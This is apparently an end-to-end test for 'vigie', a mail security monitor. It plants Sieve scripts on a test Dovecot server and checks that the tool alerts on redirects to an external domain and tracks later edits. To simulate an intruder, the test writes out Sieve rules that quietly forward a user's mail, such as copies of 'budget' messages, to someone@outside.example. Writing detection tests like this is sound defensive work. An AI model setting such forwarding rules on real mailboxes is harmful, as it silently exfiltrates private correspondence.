import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../../src/alerts/alert.js';
import { runCli } from '../../helpers/cli.js';
import { startDovecot, type DovecotServer } from '../../helpers/dovecot.js';
import { tmpDir } from '../../helpers/tmp.js';
import { startWebhookServer, type WebhookServer } from '../../helpers/webhook-server.js';

/**
 * The IMAP connector as a user runs it: `vigie once` with a master user against a real Dovecot,
 * alerts to a local webhook.
 */
const dir = tmpDir('vigie-imap-e2e-');
let dovecot: DovecotServer;
let hook: WebhookServer;
let config: string;

beforeAll(async () => {
  [dovecot, hook] = await Promise.all([startDovecot(), startWebhookServer()]);
  fs.writeFileSync(path.join(dir, 'master-password'), `${dovecot.master.password}\n`);
  config = path.join(dir, 'vigie.yml');
  fs.writeFileSync(
    config,
    `organisation: { name: Branch, domains: [party.example] }
state: { path: ./vigie.db }
connectors:
  - name: branch
    type: imap
    host: ${dovecot.host}
    port: ${dovecot.imapPort}
    tls: false
    master_user: { user: ${dovecot.master.user}, password_file: ./master-password }
    accounts: [alice, bob]
    domain: party.example
    managesieve: { port: ${dovecot.sievePort} }
    dovecot_log: { path: ${dovecot.logPath} }
receivers:
  - { name: hook, type: webhook, url: "${hook.url}" }
`,
  );
});
afterAll(async () => {
  await Promise.all([dovecot?.dispose(), hook?.close()]);
});

function alertsReceived(): Alert[] {
  return hook.requests.flatMap((r) => (JSON.parse(r.body) as { alerts: Alert[] }).alerts);
}

describe('IMAP connector through `vigie once`', () => {
  it('alerts once on an external Sieve redirect, not on an internal one, and records a later change as an update', async () => {
    // A first run with no script: the onboarding snapshot is empty, so what follows is "created".
    const baseline = await runCli(['once', '-c', config]);
    expect(baseline.code, baseline.stderr).toBe(0);
    expect(alertsReceived()).toEqual([]);

    await dovecot.doveadm(['sieve', 'put', '-u', 'alice', '-a', 'roundcube'], 'require ["copy"];\nif header :contains "subject" "budget" { redirect :copy "someone@outside.example"; }\n');
    await dovecot.doveadm(['sieve', 'put', '-u', 'bob', '-a', 'roundcube'], 'redirect "secretariat@party.example";\n');

    const first = await runCli(['once', '-c', config]);
    expect(first.code, first.stderr).toBe(0);
    const alerts = alertsReceived();
    expect(alerts.map((a) => [a.rule, a.account])).toEqual([['forwarding.sieve-redirect-external', 'alice@party.example']]);
    expect(alerts[0]!.summary).toContain('someone@outside.example');
    expect(alerts[0]!.explanation.join(' ')).toMatch(/Keeps a copy in the mailbox: (true|yes)/);
    expect(alerts[0]!.remediation.join(' ')).toContain('doveadm sieve deactivate');

    // Nothing changed: nothing new is sent.
    expect((await runCli(['once', '-c', config])).code).toBe(0);
    expect(alertsReceived()).toHaveLength(1);

    // The intruder edits the script: an `updated` event, folded into the same incident (same alert id).
    await dovecot.doveadm(['sieve', 'put', '-u', 'alice', '-a', 'roundcube'], 'redirect "other@outside.example";\n');
    expect((await runCli(['once', '-c', config])).code).toBe(0);
    const db = new Database(path.join(dir, 'vigie.db'), { readonly: true });
    const stored = db.prepare(`SELECT body FROM alerts WHERE rule = 'forwarding.sieve-redirect-external'`).all() as Array<{ body: string }>;
    const updated = db.prepare(`SELECT count(*) AS n FROM seen WHERE id LIKE 'imap:sieve:alice@party.example:%:updated'`).get() as { n: number };
    db.close();
    expect(stored).toHaveLength(1);
    expect((JSON.parse(stored[0]!.body) as Alert).count).toBe(2);
    expect(updated.n).toBeGreaterThanOrEqual(1);
    expect(alertsReceived()).toHaveLength(1);
  });
});
